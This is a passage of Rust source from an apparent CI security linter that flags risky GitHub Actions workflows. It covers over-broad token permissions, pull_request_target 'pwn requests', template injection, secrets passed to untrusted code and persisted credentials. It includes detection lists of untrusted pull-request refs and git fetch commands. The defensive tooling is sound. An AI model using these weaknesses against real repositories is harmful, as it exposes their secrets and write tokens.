        let mut texts: Vec<String> = Vec::new();
        if let Some(run) = &step.run {
            texts.push(normalise_script(run).to_ascii_lowercase());
        }
        if step
            .uses
            .as_ref()
            .is_some_and(|u| u.is("actions/github-script"))
            && let Some(script) = step.with_value("script")
        {
            let s = normalise_script(script).to_ascii_lowercase();
            if calls.iter().any(|c| s.contains(c)) {
                return true;
            }
            texts.push(s);
        }
        // Inputs and environment are part of the evidence too
        // (`NPM_CONFIG_PROVENANCE: true`, `args: release --clean`).
        for (k, v, _) in step.with.iter().chain(&step.env) {
            texts.push(format!(
                "{}={}",
                k.to_ascii_lowercase(),
                v.to_ascii_lowercase()
            ));
        }
        for text in &texts {
            if commands.iter().any(|c| has_word_prefix(text, c)) {
                return true;
            }
            // `docker buildx build --platform … --push .`
            if scope == "packages" && text.contains("buildx") && text.contains("--push") {
                return true;
            }
            if is_api_write(text) && paths.iter().any(|p| text.contains(p)) {
                return true;
            }
        }
    }
    false
}

/// A third-party action that is handed the token explicitly, or a local
/// action, may need any scope; Rampart cannot tell which, so it does not
/// call the job's write scopes excessive.
fn job_uses_opaque_token_user(job: &Job) -> bool {
    const SCOPES: &[&str] = &[
        "contents",
        "packages",
        "id-token",
        "pull-requests",
        "issues",
        "attestations",
        "pages",
        "statuses",
        "checks",
        "security-events",
        "actions",
        "deployments",
        "discussions",
        "repository-projects",
    ];
    job.steps.iter().any(|s| {
        let Some(u) = &s.uses else { return false };
        // Rampart cannot see inside a local action; it may well push.
        if u.is_local() {
            return true;
        }
        if u.is_docker() {
            return false;
        }
        let owner = u
            .action
            .split('/')
            .next()
            .unwrap_or("")
            .to_ascii_lowercase();
        if matches!(owner.as_str(), "actions" | "github" | "docker") {
            return false;
        }
        let known = SCOPES
            .iter()
            .any(|sc| actions_needing(sc).iter().any(|a| u.is_under(a)));
        if known {
            return false;
        }
        s.with.iter().chain(&s.env).any(|(_, v, _)| {
            let v = v.to_ascii_lowercase();
            v.contains("secrets.github_token") || v.contains("github.token")
        })
    })
}

fn permissions_rules(wf: &Workflow, out: &mut Vec<Finding>) {
    // missing-permissions: a workflow only started by `workflow_call` gets
    // its token from the caller, which decides.
    let reusable_only = wf.triggers.iter().all(|t| t.name == "workflow_call");
    if wf.permissions.is_none() && !reusable_only {
        let bare: Vec<&Job> = wf.jobs.iter().filter(|j| j.permissions.is_none()).collect();
        if let Some(first) = bare.first() {
            let mut names: Vec<String> =
                bare.iter().take(5).map(|j| format!("`{}`", j.id)).collect();
            if bare.len() > 5 {
                names.push(format!("and {} more", bare.len() - 5));
            }
            let jobs = if bare.len() == 1 {
                format!("job {}", names.join(", "))
            } else {
                format!("jobs {}", names.join(", "))
            };
            out.push(
                finding(
                    "workflow/missing-permissions",
                    Severity::Error,
                    lc(first.line, 0),
                    format!(
                        "there is no top-level `permissions:` and {jobs} {}, so {} the repository's default token permissions, which may be write-all",
                        if bare.len() == 1 { "sets none either" } else { "set none either" },
                        if bare.len() == 1 { "it gets" } else { "they get" }
                    ),
                )
                .why(WHY_MISSING_PERMISSIONS)
                .fix(FIX_MISSING_PERMISSIONS),
            );
        }
    }

    // excessive-permissions at the top level (Scorecard: read-only there).
    match &wf.permissions {
        Some(Permissions::WriteAll { line }) => out.push(
            finding(
                "workflow/excessive-permissions",
                Severity::Error,
                lc(*line, 0),
                "`permissions: write-all` at the top level gives every job a token that can write to every scope".to_string(),
            )
            .why(WHY_WRITE_ALL_TOP)
            .fix(FIX_WRITE_ALL_TOP),
        ),
        Some(p @ Permissions::Scopes { .. }) => {
            for s in p.write_scopes() {
                out.push(
                    finding(
                        "workflow/excessive-permissions",
                        Severity::Error,
                        lc(s.line, s.column),
                        format!(
                            "`{}: write` at the top level applies to every job in the workflow, not just the one that needs it",
                            s.name
                        ),
                    )
                    .why(format!(
                        "Every job inherits it, so any compromised step in any job can {}.",
                        scope_power(&s.name)
                    ))
                    .fix(format!(
                        "Make the top level read-only (`permissions: contents: read`) and move `{}: write` into the `permissions:` of the job that needs it.",
                        s.name
                    )),
                );
            }
        }
        _ => {}
    }

    for job in &wf.jobs {
        match &job.permissions {
            Some(Permissions::WriteAll { line }) => out.push(
                finding(
                    "workflow/excessive-permissions",
                    Severity::Error,
                    lc(*line, 0),
                    format!("job `{}` has `permissions: write-all`: its token can write to every scope", job.id),
                )
                .why(WHY_WRITE_ALL_JOB)
                .fix(format!(
                    "List only what job `{}` needs, e.g. `permissions: contents: read`, plus the one write scope it uses.",
                    job.id
                )),
            ),
            Some(p @ Permissions::Scopes { .. }) => {
                // A reusable-workflow call passes its permissions on to the
                // called workflow, whose needs are not visible here.
                if job.uses.is_some() || job_uses_opaque_token_user(job) {
                    continue;
                }
                for s in p.write_scopes() {
                    if job_needs(job, &s.name) {
                        continue;
                    }
                    out.push(
                        finding(
                            "workflow/excessive-permissions",
                            Severity::Error,
                            lc(s.line, s.column),
                            format!(
                                "job `{}` has `{}: write` but none of its steps evidently needs it (no {})",
                                job.id,
                                s.name,
                                scope_evidence(&s.name)
                            ),
                        )
                        .why(format!(
                            "A write scope nobody uses only helps an attacker: any compromised step in the job could {}.",
                            scope_power(&s.name)
                        ))
                        .fix(format!(
                            "Remove `{}: write` from job `{}` (or make it `read`); add it back only on a job whose steps need it.",
                            s.name, job.id
                        )),
                    );
                }
            }
            _ => {}
        }
    }
}

// ----- triggers --------------------------------------------------------------

/// Triggers that run with the base repository's secrets and a write token
/// on events outsiders can cause (zizmor `dangerous-triggers`).
const PRIVILEGED_TRIGGERS: &[&str] = &["pull_request_target", "workflow_run", "issue_comment"];

/// Text in a checkout `ref:` (or a git command) that selects the pull
/// request's own code rather than the base branch.
const UNTRUSTED_REFS: &[&str] = &[
    "github.event.pull_request.head.sha",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.repo",
    "github.event.pull_request.merge_commit_sha",
    "github.head_ref",
    "github.event.workflow_run.head_sha",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.head_commit",
    "github.event.workflow_run.head_repository",
    "refs/pull/",
    "pull/${{",
];

fn mentions_untrusted_ref(value: &str) -> bool {
    let v: String = value
        .to_ascii_lowercase()
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ");
    let compact = v.replace("${{ ", "${{").replace(" }}", "}}");
    UNTRUSTED_REFS.iter().any(|m| compact.contains(m))
}

/// Where a step fetches the pull request's code: in its `with:` inputs, or
/// at a byte range of its `run:` script.
enum Fetch {
    Input,
    Script(Range<usize>),
}

/// If the step checks out or fetches the pull request's own code: where
/// and what it said.
fn untrusted_checkout(step: &Step) -> Option<(Fetch, String)> {
    if step.uses.as_ref().is_some_and(|u| u.is("actions/checkout")) {
        for key in ["ref", "repository"] {
            if let Some((k, v, _)) = step.with.iter().find(|(k, _, _)| k == key)
                && mentions_untrusted_ref(v)
            {
                return Some((Fetch::Input, format!("{k}: {v}")));
            }
        }
    }
    if let Some(run) = &step.run {
        for (line, range) in logical_lines(run) {
            let l = line.to_ascii_lowercase();
            let git = [
                "git fetch",
                "git checkout",
                "git switch",
                "git pull",
                "git merge",
                "git clone",
                "git worktree",
            ]
            .iter()
            .any(|g| l.contains(g));
            if l.contains("gh pr checkout") || (git && mentions_untrusted_ref(&l)) {
                return Some((Fetch::Script(range), line));
            }
        }
    }
    None
}

fn trigger_rules(p: &Parsed, src: &Src, out: &mut Vec<Finding>) {
    let wf = &p.workflow;
    let privileged: Vec<&Trigger> = wf
        .triggers
        .iter()
        .filter(|t| PRIVILEGED_TRIGGERS.contains(&t.name.as_str()))
        .collect();
    if privileged.is_empty() {
        return;
    }
    let names = privileged
        .iter()
        .map(|t| format!("`{}`", t.name))
        .collect::<Vec<_>>()
        .join(" and ");
    let mut dangerous = false;
    for (job, extra) in wf.jobs.iter().zip(&p.jobs) {
        let mut runs_untrusted = false;
        for (step, sx) in job.steps.iter().zip(&extra.steps) {
            let Some((fetch, what)) = untrusted_checkout(step) else {
                continue;
            };
            runs_untrusted = true;
            let at = match (fetch, &step.uses, sx.run_at, &step.run) {
                (Fetch::Script(range), _, Some(run_at), Some(run)) => src
                    .locate_all(run_at, run, &[range])
                    .first()
                    .copied()
                    .unwrap_or(run_at),
                (_, Some(u), _, _) => lc(u.line, u.column),
                _ => lc(step.line, 0),
            };
            out.push(
                finding(
                    "workflow/dangerous-trigger",
                    Severity::Error,
                    at,
                    format!(
                        "job `{}` checks out the pull request's own code (`{}`) in a workflow started by {names}",
                        job.id, what
                    ),
                )
                .why(format!(
                    "{names} runs with the base repository's secrets and a write token, yet anyone who can open a pull request can start it; checking out the fork's code and building or testing it runs the attacker's code with those privileges (a \"pwn request\")."
                ))
                .fix(FIX_DANGEROUS_TRIGGER),
            );
        }
        // A reusable workflow handed the PR's ref will check it out.
        if let Some(u) = &job.uses
            && let Some((k, v, _)) = job.with.iter().find(|(_, v, _)| mentions_untrusted_ref(v))
        {
            runs_untrusted = true;
            out.push(
                finding(
                    "workflow/dangerous-trigger",
                    Severity::Error,
                    lc(u.line, u.column),
                    format!(
                        "job `{}` hands the pull request's ref (`{k}: {v}`) to the reusable workflow `{}` in a workflow started by {names}",
                        job.id, u.raw
                    ),
                )
                .why(format!(
                    "{names} runs with the base repository's secrets and a write token; a called workflow that checks out that ref runs the attacker's code with them."
                ))
                .fix(FIX_DANGEROUS_REUSABLE),
            );
        }
        if runs_untrusted {
            dangerous = true;
            secrets_to_untrusted(job, extra, &p.env_secrets, out);
        }
    }

    // The trigger alone, without a checkout of the PR's code, is a warning.
    let labeler_only = wf.jobs.len() == 1
        && wf.jobs[0].steps.len() == 1
        && wf.jobs[0].steps[0]
            .uses
            .as_ref()
            .is_some_and(|u| u.is("actions/labeler"));
    if !dangerous && !labeler_only {
        for t in privileged {
            out.push(
                finding(
                    "workflow/risky-trigger",
                    Severity::Warning,
                    lc(t.line, 0),
                    format!(
                        "`{}` runs with the base repository's secrets and a write token on events outsiders can cause",
                        t.name
                    ),
                )
                .why(WHY_RISKY_TRIGGER)
                .fix(format!(
                    "Prefer {} if you do not need the privileges; otherwise keep permissions minimal, never check out or run the pull request's code, and pass event text through `env:`.",
                    safer_trigger(&t.name)
                )),
            );
        }
    }
}

fn safer_trigger(name: &str) -> &'static str {
    match name {
        "workflow_run" => "`workflow_call` or `pull_request`",
        _ => "`pull_request`",
    }
}

fn secrets_to_untrusted(
    job: &Job,
    extra: &JobExtra,
    env_secrets: &[(String, u32)],
    out: &mut Vec<Finding>,
) {
    let mut refs: Vec<(String, u32)> = extra.secrets.iter().chain(env_secrets).cloned().collect();
    if let Some(line) = job.secrets_inherit {
        refs.push(("secrets: inherit".to_string(), line));
    }
    refs.sort_by(|a, b| (a.1, &a.0).cmp(&(b.1, &b.0)));
    refs.dedup();
    // One finding per use reads best, but a generated file could hold
    // thousands; past a few, the last finding counts the rest.
    const SHOWN: usize = 20;
    let hidden = refs.len().saturating_sub(SHOWN);
    refs.truncate(SHOWN);
    let last = refs.len();
    for (i, (name, line)) in refs.into_iter().enumerate() {
        let mut what = if name == "secrets: inherit" {
            "passes every secret on with `secrets: inherit`".to_string()
        } else {
            format!("uses `{name}`")
        };
        if i + 1 == last && hidden > 0 {
            what.push_str(&format!(" (and {hidden} more uses of secrets)"));
        }
        out.push(
            finding(
                "workflow/secrets-to-untrusted",
                Severity::Error,
                lc(line, 0),
                format!("job `{}` runs the pull request's code and {what}", job.id),
            )
            .why(WHY_SECRETS_TO_UNTRUSTED)
            .fix(format!(
                "Give job `{}` no secrets: move the steps that need `{name}` to a job or workflow that never checks out the pull request's code, and pass named `secrets:` instead of `secrets: inherit`.",
                job.id
            )),
        );
    }
}

/// `secrets: inherit` on a reusable-workflow call (zizmor `secrets-inherit`):
/// a warning, unless the job already runs untrusted code, which is an error
/// reported by `secrets-to-untrusted`.
fn secrets_inherit(wf: &Workflow, out: &mut Vec<Finding>) {
    for job in &wf.jobs {
        let Some(line) = job.secrets_inherit else {
            continue;
        };
        if out
            .iter()
            .any(|f| f.line == line && f.rule == "workflow/secrets-to-untrusted")
        {
            continue;
        }
        let called = job
            .uses
            .as_ref()
            .map_or("the called workflow", |u| u.raw.as_str());
        out.push(
            finding(
                "workflow/secrets-inherit",
                Severity::Warning,
                lc(line, 0),
                format!("job `{}` passes every secret of the repository to `{called}` with `secrets: inherit`", job.id),
            )
            .why(WHY_SECRETS_INHERIT)
            .fix("Replace `secrets: inherit` with a `secrets:` mapping of just the secrets the called workflow needs, e.g. `NPM_TOKEN: ${{ secrets.NPM_TOKEN }}`."),
        );
    }
}

// ----- template-injection ----------------------------------------------------

/// Actions whose input is code (zizmor's list, from CodeQL's models).
const SCRIPT_INPUTS: &[(&str, &str)] = &[
    ("actions/github-script", "script"),
    ("amadevus/pwsh-script", "script"),
    ("jannekem/run-python-script-action", "script"),
    ("cardinalby/js-eval-action", "expression"),
];

fn template_injection(p: &Parsed, src: &Src, out: &mut Vec<Finding>) {
    for (job, extra) in p.workflow.jobs.iter().zip(&p.jobs) {
        for (step, sx) in job.steps.iter().zip(&extra.steps) {
            let mut sinks: Vec<(String, &str, Pos, bool)> = Vec::new();
            if let (Some(run), Some(at)) = (&step.run, sx.run_at) {
                sinks.push((
                    format!("the `run:` script of {}", step.label()),
                    run.as_str(),
                    at,
                    false,
                ));
            }
            if let Some(u) = &step.uses {
                for (action, input) in SCRIPT_INPUTS {
                    if !u.is(action) {
                        continue;
                    }
                    for ((k, v, _), at) in step.with.iter().zip(&sx.with_at) {
                        if k == input {
                            sinks.push((
                                format!("the `{input}:` input of {action} in {}", step.label()),
                                v.as_str(),
                                *at,
                                true,
                            ));
                        }
                    }
                }
            }
            for (sink, value, at, js) in sinks {
                let exprs = expressions(value);
                if exprs.is_empty() {
                    continue;
                }
                let positions = src.locate_all(at, value, &exprs);
                for (r, pos) in exprs.iter().zip(positions) {
                    let expr = &value[r.clone()];
                    let bad = untrusted_in(expr);
                    let Some(first) = bad.first() else { continue };
                    let contexts = bad
                        .iter()
                        .map(|c| format!("`{c}`"))
                        .collect::<Vec<_>>()
                        .join(", ");
                    let var = env_name(first);
                    let fix = if js {
                        format!(
                            "Pass it through `env:` and read the variable in the script: `env: {var}: {expr}` on the step, then `process.env.{var}` in the script."
                        )
                    } else {
                        format!(
                            "Pass it through `env:` and use the quoted shell variable: `env: {var}: {expr}` on the step, then \"${var}\" in the script."
                        )
                    };
                    out.push(
                        finding(
                            "workflow/template-injection",
                            Severity::Error,
                            pos,
                            format!(
                                "`{expr}` is pasted into {sink} in job `{}`; {contexts} {} controlled by whoever opens the issue, pull request or comment, or pushes the commit",
                                job.id,
                                if bad.len() == 1 { "is" } else { "are" }
                            ),
                        )
                        .why(WHY_TEMPLATE_INJECTION)
                        .fix(fix),
                    );
                }
            }
        }
    }
}

/// `github.event.pull_request.title` -> `PR_TITLE`-like names for fixes.
fn env_name(context: &str) -> String {
    let segs: Vec<&str> = context.split('.').filter(|s| *s != "*").collect();
    let tail: Vec<&str> = segs.iter().rev().take(2).rev().copied().collect();
    let name = tail.join("_").replace('-', "_").to_ascii_uppercase();
    match name.as_str() {
        "GITHUB_HEAD_REF" => "HEAD_REF".to_string(),
        "PULL_REQUEST_TITLE" => "PR_TITLE".to_string(),
        "PULL_REQUEST_BODY" => "PR_BODY".to_string(),
        _ => name,
    }
}

// ----- persisted-credentials -------------------------------------------------

fn persisted_credentials(wf: &Workflow, out: &mut Vec<Finding>) {
    for job in &wf.jobs {
        for step in &job.steps {
            let Some(u) = &step.uses else { continue };
            if !u.is("actions/checkout") {
                continue;
            }
            let at = lc(u.line, u.column);
            let value = step
                .with_value("persist-credentials")
                .map(|v| v.trim().to_ascii_lowercase());
            match value.as_deref() {
                Some("false") => {}
                Some("true") => out.push(
                    finding(
                        "workflow/persisted-credentials",
                        Severity::Warning,
                        at,
                        format!(
                            "`{}` in job `{}` keeps the token in `.git/config` on purpose (`persist-credentials: true`)",
                            u.raw, job.id
                        ),
                    )
                    .why(WHY_PERSIST_TRUE)
                    .fix(FIX_PERSIST_TRUE),
                ),
                other => out.push(
                    finding(
                        "workflow/persisted-credentials",
                        Severity::Error,
                        at,
                        match other {
                            Some(v) => format!(
                                "`{}` in job `{}` has `persist-credentials: {v}`, which does not turn off storing the token in `.git/config`",
                                u.raw, job.id
                            ),
                            None => format!(
                                "`{}` in job `{}` leaves the GITHUB_TOKEN in `.git/config` (no `persist-credentials: false`)",
                                u.raw, job.id
                            ),
                        },
                    )
                    .why(WHY_PERSISTED_CREDENTIALS)
                    .fix(FIX_PERSISTED_CREDENTIALS),
                ),
            }
        }
    }
}

// ----- remote-script ---------------------------------------------------------

/// The `remote-script` rule's test applied to a whole shell script (a CI
/// script, an installer): each logical line that runs code straight from
/// the network, with the 1-based line where it starts.
pub fn remote_script_lines(script: &str) -> Vec<(u32, String)> {
    logical_lines(script)
        .into_iter()
        .filter(|(l, _)| runs_download(l))
        .map(|(l, r)| (crate::line_at(script, r.start), l))
        .collect()
}

fn remote_script(p: &Parsed, src: &Src, out: &mut Vec<Finding>) {
    for (job, extra) in p.workflow.jobs.iter().zip(&p.jobs) {
        for (step, sx) in job.steps.iter().zip(&extra.steps) {
            let (Some(run), Some(at)) = (&step.run, sx.run_at) else {
                continue;
            };
            let hits: Vec<(String, Range<usize>)> = logical_lines(run)
                .into_iter()
                .filter(|(l, _)| runs_download(l))
                .collect();
            if hits.is_empty() {
                continue;
            }
            let ranges: Vec<Range<usize>> = hits.iter().map(|(_, r)| r.clone()).collect();
            let positions = src.locate_all(at, run, &ranges);
            for ((line, _), pos) in hits.iter().zip(positions) {
                let shown: String = if line.chars().count() > 100 {
                    format!("{}…", line.chars().take(100).collect::<String>())
                } else {
                    line.clone()
                };
                out.push(
                    finding(
                        "workflow/remote-script",
                        Severity::Error,
                        pos,
                        format!(
                            "{} of job `{}` runs a script straight from the network: `{shown}`",
                            step.label(),
                            job.id
                        ),
                    )
                    .why(WHY_REMOTE_SCRIPT)
                    .fix(FIX_REMOTE_SCRIPT),
                );
            }
        }
    }
}

// ---------------------------------------------------------------------------
// Keeps
// ---------------------------------------------------------------------------

/// Checks that a (hardened) workflow still runs on `triggers` and still has
/// every `keeps` job and step. `pins` lists the commit of each action
/// version, so that a keep `actions/checkout@v4.2.2` is met by a step
/// pinned to that version's SHA.
pub fn check_keeps(
    wf: &Workflow,
    triggers: &[String],
    keeps: &[Keep],
    pins: &[Pin],
) -> Vec<Finding> {
    let mut out = Vec::new();
    for t in triggers {
        if !wf.triggers.iter().any(|x| &x.name == t) {
            out.push(
                Finding::new(
                    "workflow/lost-trigger",
                    Severity::Error,
                    wf.on_line,
                    format!("the workflow no longer runs on `{t}`"),
                )
                .why(WHY_LOST_TRIGGER)
                .fix(format!(
                    "Put `{t}` back under `on:` and harden the jobs instead."
                )),
            );
        }
    }
    for keep in keeps {
        let Some(job) = wf.jobs.iter().find(|j| j.id == keep.job) else {
            out.push(
                Finding::new(
                    "workflow/lost-job",
                    Severity::Error,
                    wf.jobs_line,
                    format!("job `{}` is gone", keep.job),
                )
                .why(WHY_LOST_JOB)
                .fix(format!(
                    "Restore job `{}` and harden it instead of removing it.",
                    keep.job
                )),
            );
            continue;
        };
        if let Some(want) = &keep.uses {
            keep_uses(job, want, pins, &mut out);
        }
        if let Some(want) = &keep.run {
            let want_n = normalise_script(want);
            let found = job
                .steps
                .iter()
                .filter_map(|s| s.run.as_deref())
                .any(|r| normalise_script(r).contains(&want_n));
            if !found {
                out.push(
                    Finding::new(
                        "workflow/lost-step",
                        Severity::Error,
                        job.line,
                        format!("job `{}` no longer runs `{want_n}`", job.id),
                    )
                    .why(WHY_LOST_RUN)
                    .fix(format!(
                        "Keep a `run:` step in job `{}` that runs `{want_n}`, hardened.",
                        job.id
                    )),
                );
            }
        }
    }
    sort_findings(&mut out);
    out
}

fn keep_uses(job: &Job, want: &str, pins: &[Pin], out: &mut Vec<Finding>) {
    let (action, version) = match want.rsplit_once('@') {
        Some((a, v)) => (a.trim(), v.trim()),
        None => (want.trim(), ""),
    };
    let pin = pins
        .iter()
        .find(|p| p.action.eq_ignore_ascii_case(action) && p.version == version);
    let candidates: Vec<&UsesRef> = job
        .uses
        .iter()
        .chain(job.steps.iter().filter_map(|s| s.uses.as_ref()))
        .filter(|u| u.is(action))
        .collect();
    let met = candidates.iter().any(|u| {
        version.is_empty()
            || u.reference == version
            || pin.is_some_and(|p| u.reference.eq_ignore_ascii_case(&p.sha))
    });
    if met {
        return;
    }
    if let Some(u) = candidates.iter().find(|u| is_hex(&u.reference, 40)) {
        let message = match pin {
            Some(p) => format!(
                "job `{}` pins `{action}` to `{}`, but the keep expects {version}, whose commit per the given list is `{}`; `{}` is not that version's commit",
                job.id, u.reference, p.sha, u.reference
            ),
            None => format!(
                "job `{}` pins `{action}` to `{}`, but the keep expects {version} and no commit is listed for {version}, so `{}` cannot be shown to be that version",
                job.id, u.reference, u.reference
            ),
        };
        let fix = match pin {
            Some(p) => format!("Use `uses: {action}@{} # {version}`.", p.sha),
            None => format!("Use `uses: {action}@{version}`, or the commit listed for {version}."),
        };
        out.push(
            Finding::new("workflow/wrong-pin", Severity::Error, u.line, message)
                .column(u.column)
                .why(WHY_WRONG_PIN)
                .fix(fix),
        );
        return;
    }
    let found = candidates
        .first()
        .map(|u| format!(" (line {} uses `{}`)", u.line, u.raw))
        .unwrap_or_default();
    out.push(
        Finding::new(
            "workflow/lost-step",
            Severity::Error,
            candidates.first().map_or(job.line, |u| u.line),
            format!("job `{}` no longer uses `{want}`{found}", job.id),
        )
        .why(WHY_LOST_USES)
        .fix(match pin {
            Some(p) => format!(
                "Keep the step and pin it: `uses: {action}@{} # {version}`.",
                p.sha
            ),
            None => format!("Keep the step: `uses: {want}`."),
        }),
    );
}
